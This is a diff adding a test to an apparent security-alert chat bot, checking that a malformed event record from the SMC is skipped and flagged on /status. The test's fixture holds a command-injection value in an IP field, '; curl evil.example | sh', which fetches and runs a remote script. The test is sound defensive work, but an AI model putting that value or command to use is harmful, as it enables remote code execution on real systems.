@@ -179,3 +179,37 @@ describe('SMC answering 500', () => {
     await settleAndCount(['10.60.3.1', '10.60.3.2']);
   });
 });
+
+describe('SMC sending a malformed security-event record', () => {
+  it('skips that record, still alerts for the others, and says so on /status', async () => {
+    app = await startBot(env());
+    world.smc.addEvent({ typeId: HIGH_TOTAL_TRAFFIC, sourceIp: '10.60.4.1', targetIp: '52.109.10.7' });
+    await oneCardFor('10.60.4.1');
+
+    // A hostile record in every results answer from now on: an IP field carrying a command.
+    const hostile = {
+      id: 990_001,
+      securityEventType: HIGH_TOTAL_TRAFFIC,
+      firstActiveTime: '2026-12-01T10:00:00.000+0000',
+      lastActiveTime: '2026-12-01T10:01:00.000+0000',
+      source: { ipAddress: '10.60.4.9; curl evil.example | sh', tags: [] },
+      hitCount: 1,
+    };
+    world.smc.addMalformedRecord(hostile, 1000);
+    world.smc.addEvent({ typeId: HIGH_TOTAL_TRAFFIC, sourceIp: '10.60.4.2', targetIp: '52.109.10.8' });
+
+    await oneCardFor('10.60.4.2');
+    const status = await eventually(
+      async () => {
+        const text = await ask('/status');
+        return /malformed/.test(text) ? text : undefined;
+      },
+      15_000,
+      '/status to mention the malformed record',
+    );
+    expect(status).toMatch(/Last poll: .*ok.*\*\*1 malformed SMC record skipped\*\*/);
+    expect(status).not.toContain('curl');
+    expect(world.cards().some((m) => cardText(m).includes('10.60.4.9'))).toBe(false);
+    await settleAndCount(['10.60.4.1', '10.60.4.2']);
+  });
+});
